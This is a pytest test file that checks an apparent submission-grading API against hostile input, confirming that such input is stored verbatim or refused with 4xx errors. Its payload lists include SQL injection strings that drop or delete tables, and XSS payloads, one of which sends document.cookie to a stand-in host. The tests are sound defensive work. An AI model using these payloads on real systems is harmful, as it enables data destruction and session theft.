"""Hostile input: stored verbatim or refused with a 4xx, never a 5xx, never executed.

Complements tests/api/test_submission_errors.py (field validation, undecodable bodies,
NUL bytes in ids, body size), which is not repeated here.
"""

from __future__ import annotations

import json
import time
from typing import Any

import pytest
from fastapi.testclient import TestClient

from service.domain.submissions.schemas import MAX_ANSWER_CHARS
from tests.factories import rubric_data, submit

Q = "backchannel-q1"
SQL_PAYLOADS = [
    "'; DROP TABLE submission; --",
    '" OR 1=1 --',
    "1'; SELECT pg_sleep(10); --",
    "%' OR learner_id LIKE '%",
    "\\'; DELETE FROM api_key WHERE ''='",
    "$$; COPY submission TO '/tmp/x'; $$",
]
HTML_PAYLOADS = [
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
    "</textarea><svg/onload=alert(1)>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "javascript:alert(1)",
]


@pytest.mark.parametrize("payload", SQL_PAYLOADS + HTML_PAYLOADS)
def test_payloads_are_stored_and_returned_verbatim(
    lms: TestClient, instructor: TestClient, payload: str
) -> None:
    created = submit(lms, f"They talked secretly. {payload}", learner_id=payload)
    assert created["answer"] == f"They talked secretly. {payload}"
    assert created["learner_id"] == payload
    fetched = instructor.get(f"/v1/submissions/{created['id']}")
    assert fetched.json()["answer"] == created["answer"]
    # The learner-id filter is a bound parameter: it finds exactly this one, nothing more.
    listed = instructor.get("/v1/submissions", params={"learner_id": payload}).json()["items"]
    assert [item["id"] for item in listed] == [created["id"]]
    everything = instructor.get("/v1/submissions").json()["items"]
    assert len(everything) == 1


def test_markup_is_never_served_as_something_a_browser_renders(
    lms: TestClient, instructor: TestClient, anon: TestClient
) -> None:
    payload = HTML_PAYLOADS[0]
    created = submit(lms, f"They talked secretly. {payload}")
    token = created["feedback_url"].rsplit("/", 1)[1]
    for response in (
        instructor.get(f"/v1/submissions/{created['id']}"),
        anon.get(f"/v1/feedback/{token}"),
    ):
        assert response.headers["content-type"] == "application/json"
        assert response.headers["x-content-type-options"] == "nosniff"
        assert "default-src 'none'" in response.headers["content-security-policy"]
        assert payload in response.json()["answer"]
    export = instructor.get("/v1/exports/submissions.csv")
    assert export.headers["content-type"].startswith("text/csv")
    assert export.headers["content-disposition"].startswith("attachment")
    assert export.headers["x-content-type-options"] == "nosniff"
    assert payload in export.text


def test_an_extremely_long_word_is_scored_quickly(lms: TestClient) -> None:
    submit(lms, "warm the grader's cache for this rubric")
    for answer in (
        "a" * MAX_ANSWER_CHARS,
        ("antidisestablishmentarianism" * 400)[:MAX_ANSWER_CHARS],
    ):
        started = time.perf_counter()
        created = submit(lms, answer)
        elapsed = time.perf_counter() - started
        assert created["status"] == "scored"
        # Measured at ~30 ms; the bound only catches a pathological (quadratic) engine.
        assert elapsed < 2.0, f"{elapsed:.2f} s for a {len(answer)}-letter word"


@pytest.mark.parametrize(
    "body",
    [
        {"question_id": Q, "learner_id": "s", "answer": json.loads("[" * 500 + "]" * 500)},
        {"question_id": Q, "learner_id": "s", "answer": {"$ne": None}},
        {"question_id": {"$gt": ""}, "learner_id": "s", "answer": "x"},
        {"question_id": Q, "learner_id": ["s", "t"], "answer": "x"},
        {"question_id": Q, "learner_id": "s", "answer": "x", **{f"k{i}": i for i in range(5000)}},
    ],
    ids=["nested-answer", "operator-object", "operator-in-id", "array-id", "many-keys"],
)
def test_structurally_wrong_json_is_422(lms: TestClient, body: dict[str, Any]) -> None:
    response = lms.post("/v1/submissions", json=body)
    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == "application/problem+json"
    assert response.json()["code"] == "validation_error"


def test_deeply_nested_rubric_documents_are_refused(instructor: TestClient) -> None:
    rubric = {**rubric_data(Q), "id": "deep-q", "background": json.loads("[" * 900 + "]" * 900)}
    response = instructor.post("/v1/questions", json=rubric)
    assert response.status_code == 422
    assert response.headers["content-type"] == "application/problem+json"


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("title", "Cuban\x00Crisis"),
        ("prompt", "How did\x00they talk?"),
        ("background", "text\x00more"),
        ("title", "lone \ud800 surrogate"),
    ],
)
def test_nul_and_surrogates_in_rubrics_are_422_not_500(
    instructor: TestClient, field: str, value: str
) -> None:
    # Found by hostile-input testing on PostgreSQL: a NUL in a rubric's title reached a
    # text column and the database refused it (500).
    rubric = {**rubric_data(Q), "id": "nul-q", field: value}
    # ASCII-escaped JSON, so a lone surrogate travels as the escape "\ud800".
    response = instructor.post(
        "/v1/questions",
        content=json.dumps(rubric).encode(),
        headers={"content-type": "application/json"},
    )
    assert response.status_code == 422, response.text
    assert field in response.json()["detail"]
    assert instructor.get("/v1/questions/nul-q").status_code == 404


@pytest.mark.parametrize("raw", [b"1e400", b"-1e400", b"NaN", b"Infinity", b"1" + b"0" * 5000])
def test_non_finite_and_huge_numbers_are_422(
    lms: TestClient, instructor: TestClient, raw: bytes
) -> None:
    submission = submit(lms, "They talked secretly.")
    response = instructor.post(
        f"/v1/submissions/{submission['id']}/overrides",
        content=b'{"points": ' + raw + b', "reason": "check"}',
        headers={"content-type": "application/json"},
    )
    assert response.status_code == 422, response.text
    assert instructor.get(f"/v1/submissions/{submission['id']}").json()["overridden"] is False


@pytest.mark.parametrize(
    "content_type",
    ["multipart/form-data; boundary=x", "application/xml", "text/html", "application/json-patch"],
)
def test_other_media_types_are_415(lms: TestClient, content_type: str) -> None:
    response = lms.post(
        "/v1/submissions",
        content=b'{"question_id": "backchannel-q1", "learner_id": "s", "answer": "hi"}',
        headers={"content-type": content_type},
    )
    assert response.status_code == 415
    assert response.json()["code"] == "unsupported_media_type"


def test_json_in_another_charset_is_refused(lms: TestClient) -> None:
    body = '{"question_id": "backchannel-q1", "learner_id": "s", "answer": "café"}'
    response = lms.post(
        "/v1/submissions",
        content=body.encode("latin-1"),
        headers={"content-type": "application/json; charset=latin-1"},
    )
    assert response.status_code == 422
    assert "UTF-8" in response.json()["detail"]


@pytest.mark.parametrize(
    "authorization",
    [
        b"Bearer \xff\xfe",
        b"Bearer " + b"k" * 8000,
        b"Basic YWRtaW46YWRtaW4=",
        b"Bearer",
        b"bearer  ",
    ],
)
def test_malformed_authorization_headers_are_401(anon: TestClient, authorization: bytes) -> None:
    response = anon.get("/v1/keys", headers={b"Authorization": authorization})
    assert response.status_code == 401
    assert response.headers["www-authenticate"] == "Bearer"


def test_idempotency_key_with_non_ascii_bytes_is_422(lms: TestClient) -> None:
    response = lms.post(
        "/v1/submissions",
        json={"question_id": Q, "learner_id": "s", "answer": "secretly"},
        headers={b"Idempotency-Key": b"key-\xff\xfe"},
    )
    assert response.status_code == 422
    assert response.json()["errors"][0]["field"] == "Idempotency-Key"
